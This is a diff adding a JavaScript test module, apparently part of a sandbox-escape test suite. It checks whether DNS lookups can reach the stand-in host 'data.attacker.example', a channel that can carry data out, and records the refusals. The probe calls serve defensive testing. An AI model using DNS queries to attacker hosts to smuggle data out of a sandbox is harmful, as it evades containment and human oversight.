@@ -1,0 +1,26 @@
+import dns from "node:dns/promises";
+
+export const attempt = {
+  tries: "to ask name servers, which carry data outside",
+  refusedBecause: "the engine asks none",
+  ends: { says: "\\[" },
+  allowedHosts: ["http://{witness}"],
+};
+
+export default async () => {
+  const ways = [
+    () => dns.resolve4("data.attacker.example"),
+    () => dns.lookup("data.attacker.example"),
+    () => dns.resolveTxt("data.attacker.example"),
+    () => dns.reverse("127.0.0.1"),
+  ];
+  const refusals = [];
+  for (const way of ways) {
+    try {
+      return `got through: ${JSON.stringify(await way())}`;
+    } catch (error) {
+      refusals.push(error.code ?? error.message);
+    }
+  }
+  return refusals;
+};
